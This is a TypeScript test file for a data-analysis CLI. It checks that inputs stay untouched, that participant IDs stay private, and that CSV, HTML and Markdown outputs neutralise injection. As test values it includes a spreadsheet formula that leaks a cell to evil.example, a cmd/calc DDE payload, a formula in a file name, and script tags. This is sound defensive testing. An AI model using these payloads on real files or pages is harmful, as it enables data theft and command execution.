import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runTides } from '../helpers/cli.js';
import { writeProgramme } from '../helpers/programme.js';
import {
  analyse,
  corpusFile,
  EPOCH,
  expectNoCrash,
  FAST,
  fingerprint,
  listFiles,
  metricsTable,
  PARTICIPANT_ID,
  programmeWith,
  readCsv,
  tmp,
  validate,
} from './support.js';

/**
 * Security: inputs are never written, outputs are safe to open in Excel and to render as HTML or
 * Markdown, no participant-level identifier reaches a published output, and identifiers are text.
 */

/** Broken variants of the corpus programme, to check that no failure path leaks or writes. */
const VARIANTS: Record<string, Record<string, Buffer>> = {
  clean: {},
  'no header': { 'B/participants.csv': corpusFile('participants/no-header.csv') },
  'swallowing quote': { 'B/participants.csv': corpusFile('participants/quote-swallows-rows.csv') },
  ragged: { 'B/participants.csv': corpusFile('participants/ragged.csv') },
  dates: { 'B/participants.csv': corpusFile('participants/dates.csv') },
  binary: { 'B/participants.csv': corpusFile('participants/binary.csv') },
  'bad scores': { 'B/outcomes.csv': corpusFile('outcomes/scores.csv') },
  'bad timepoints': { 'B/outcomes.csv': corpusFile('outcomes/timepoints.csv') },
};

describe('inputs are never written', () => {
  it.each(Object.keys(VARIANTS))(
    'leaves every input file of the %s programme as it was, and publishes no participant_id',
    (name) => {
      const dir = programmeWith(VARIANTS[name]);
      const before = fingerprint(dir);
      const issues = join(tmp(), 'issues.csv');
      expectNoCrash(runTides(['validate', dir, '--issues-out', issues], EPOCH));
      // With disclosure control (published) and without it (internal): no participant_id either way.
      for (const suppress of [true, false]) {
        const { run, out } = analyse(dir, ['--by', 'partner_id,cohort'], { suppress });
        expect(run.code).toBe(0);
        for (const f of listFiles(out)) {
          const text = readFileSync(join(out, f), 'utf8');
          expect(text.match(PARTICIPANT_ID)?.[0], `${f} (suppress ${suppress})`).toBeUndefined();
        }
        expect(run.stdout).not.toMatch(PARTICIPANT_ID);
      }
      expect(fingerprint(dir)).toEqual(before);
    },
  );

  it('refuses --out inside the input folder: inputs untouched, nothing written', () => {
    const dir = programmeWith();
    const before = fingerprint(dir);
    const out = join(dir, 'report');
    const run = runTides(['analyse', dir, '--out', out, '-q', ...FAST], EPOCH);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/is inside the input folder/);
    expect(fingerprint(dir)).toEqual(before);
  });
});

/** A cell Excel, LibreOffice or Google Sheets would run as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

function expectFormulaSafeCsv(path: string): number {
  let checked = 0;
  for (const row of readCsv(path)) {
    for (const cell of row) {
      checked++;
      if (FORMULA_START.test(cell)) {
        // Only numbers (a negative change, a lower limit) may start like a formula.
        expect(cell, `${path}: ${JSON.stringify(cell)}`).toMatch(/^-\d+(\.\d+)?(e-?\d+)?$/);
      }
    }
  }
  return checked;
}

describe('outputs are safe to open in Excel and to render', () => {
  // Formulas in cohort names, in partner ids, names and themes, and in a file name.
  const FILE = '=HYPERLINK("evil","file") participants.csv';
  const cohorts = programmeWith({
    'B/participants.csv': corpusFile('participants/formulas.csv'),
    'partners.csv': corpusFile('partners/formulas.csv'),
    [FILE]: 'participant_id,partner_id,enrolled_on\n',
  });

  it('neutralises formulas in cohort names and partner fields in every CSV output', () => {
    for (const by of ['partner_id,cohort', 'theme']) {
      const { run, out } = analyse(cohorts, ['--by', by]);
      expect(run.code).toBe(0);
      const csvs = listFiles(out).filter((f) => f.endsWith('.csv'));
      expect(csvs.length).toBeGreaterThan(5);
      for (const f of csvs) expectFormulaSafeCsv(join(out, f));
      const reach = readCsv(join(out, 'reach.csv'));
      const groups = reach.map((r) => (by === 'theme' ? r[0] : r[1]));
      if (by === 'theme') {
        expect(groups).toContain(`'=HYPERLINK("http://evil.example/theme","garden")`);
      } else {
        expect(groups).toEqual(
          expect.arrayContaining([
            `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")`,
            `'+SUM(1+1)*cmd|' /C calc'!A0`,
            `'-2+3`,
            `'@SUM(1+1)`,
            `'=1+1 after a tab`,
          ]),
        );
        // JSON keeps the text as it was sent: only spreadsheets need the apostrophe.
        const json = metricsTable(out, 'reach').map((r) => r.cohort);
        expect(json).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")');
      }
      // A partner id that starts like a formula (@P3) in cost.csv, a file name in data_quality.
      expect(readCsv(join(out, 'cost.csv')).map((r) => r[0])).toContain(`'@P3`);
      expect(readCsv(join(out, 'data_quality.csv')).map((r) => r[0])).toContain(`'${FILE}`);
    }
  });

  it('escapes the same text in report.html and report.md', () => {
    const { out } = analyse(cohorts, ['--by', 'partner_id,cohort']);
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    expect(html).toContain(
      '=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click for results&quot;)',
    );
    expect(html).toContain('&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;');
    expect(html).not.toContain("<script>alert('x')");
    expect(html).not.toMatch(/<b>|href="javascript:/i);
    expect(html).toContain('=HYPERLINK(&quot;evil&quot;,&quot;file&quot;) participants.csv');
    const md = readFileSync(join(out, 'report.md'), 'utf8');
    expect(md).toContain("\\<script\\>alert('x')\\</script\\>");
    expect(md).toContain('\\| pipe \\| \\[link\\](javascript:alert(1)) \\*\\*bold\\*\\* \\<b\\>');
    expect(md).not.toMatch(/(^|[^\\])<script>/);
    // Every table row of report.md keeps its column count (no cell broke out with a `|`).
    for (const line of md.split('\n').filter((l) => l.startsWith('| B |'))) {
      const cells = line.split(/(?<!\\)\|/).length;
      expect(cells, line).toBeGreaterThan(5);
    }
  });

  it('neutralises formulas in validate --issues-out', () => {
    const dir = programmeWith({ 'B/outcomes.csv': corpusFile('outcomes/timepoints.csv') });
    const path = join(tmp(), 'issues.csv');
    expectNoCrash(runTides(['validate', dir, '--issues-out', path], EPOCH));
    expectFormulaSafeCsv(path);
    const values = readCsv(path).map((r) => r[3]);
    expect(values).toContain(`'=hyperlink("x")`);
  });
});

describe('identifiers with leading zeros stay text in every output', () => {
  // Partners 007 and 7 are two partners; people 0042, 042 and 42 are three people.
  const people = ['0042', '042', '42', '0001', '01', '1', '00', '0'];
  const dir = writeProgramme({
    'partners.csv': 'partner_id,partner_name,funding_gbp\n007,Double O Seven,7000\n7,Seven,700\n',
    'participants.csv':
      'participant_id,partner_id,enrolled_on,imd_decile\n' +
      people.map((p, i) => `${p},007,2016-05-0${(i % 9) + 1},${(i % 10) + 1}\n`).join('') +
      people
        .slice(0, 6)
        .map((p) => `${p},7,2016-06-01,3\n`)
        .join(''),
    'outcomes.csv':
      'participant_id,partner_id,measure,timepoint,recorded_on,score\n' +
      people
        .flatMap((p, i) => [
          `${p},007,ons_happiness,baseline,2016-05-10,${i % 5}\n`,
          `${p},007,ons_happiness,followup,2016-08-10,${(i % 5) + 2}\n`,
        ])
        .join('') +
      '00042,007,ons_happiness,baseline,2016-05-10,5\n',
  });

  it('validate keeps every id as sent', () => {
    const { run, result } = validate(dir);
    expect(run.code).toBe(1);
    expect(result?.totals.participants).toEqual({ read: 14, used: 14, rejected: 0 });
    // 00042 is not 0042 or 42: it has no participant row.
    expect(result?.issues).toEqual([
      expect.objectContaining({ line: 18, value: '00042', rule: 'outcome.no_episode' }),
    ]);
    const path = join(tmp(), 'issues.csv');
    runTides(['validate', dir, '--issues-out', path], EPOCH);
    expect(readCsv(path)[1]?.[3]).toBe('00042');
  });

  it('analyse keeps partner 007 apart from partner 7 in CSV, JSON, Markdown and HTML', () => {
    const { run, out } = analyse(dir);
    expect(run.code).toBe(0);
    const reach = readCsv(join(out, 'reach.csv'));
    expect(reach.map((r) => [r[0], r[1]])).toEqual([
      ['partner_id', 'participants'],
      ['All', '8'],
      ['007', '8'],
      ['7', '6'],
    ]);
    expect(readCsv(join(out, 'cost.csv')).map((r) => r[0])).toEqual([
      'partner_id',
      'All',
      '007',
      '7',
    ]);
    const json = metricsTable(out, 'reach').map((r) => r.partner_id);
    expect(json).toEqual(['All', '007', '7']);
    const wellbeing = metricsTable(out, 'wellbeing_change').map((r) => r.partner_id);
    expect(wellbeing).toContain('007');
    expect(readFileSync(join(out, 'report.md'), 'utf8')).toMatch(/^\| 007 \|/m);
    expect(readFileSync(join(out, 'report.html'), 'utf8')).toMatch(/>007</);
  });
});
